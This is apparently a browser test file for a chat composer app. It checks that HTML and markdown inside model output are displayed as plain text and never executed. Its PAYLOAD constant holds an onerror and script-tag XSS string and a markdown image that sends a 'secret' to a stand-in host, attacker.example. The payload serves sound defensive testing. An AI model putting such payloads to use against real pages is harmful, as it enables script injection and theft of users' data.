"""Model output and pasted content are data: HTML in them is shown as text, never run."""

from __future__ import annotations

import pytest

from tests.browser.conftest import open_composer

pytestmark = pytest.mark.browser

PAYLOAD = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>![x](https://attacker.example/p.png?q=secret)'


def test_html_in_a_streamed_answer_is_inert(page_for, alice):
    page = open_composer(page_for(alice))
    requests = []
    page.on("request", lambda r: requests.append(r.url))
    page.fill("[data-testid=turn-0] textarea.text-input", PAYLOAD)
    page.click("[data-testid=run]")
    page.wait_for_selector("[data-testid=run-outcome]:text-is('completed')")
    response = page.locator("[data-testid=response] .response-blocks")
    assert "<img src=x" in response.text_content()  # the simulator quotes the task: shown as text
    assert page.query_selector("[data-testid=response] img, [data-testid=response] script") is None
    assert page.evaluate("() => window.__pwned === undefined")
    assert not [u for u in requests if "attacker.example" in u]
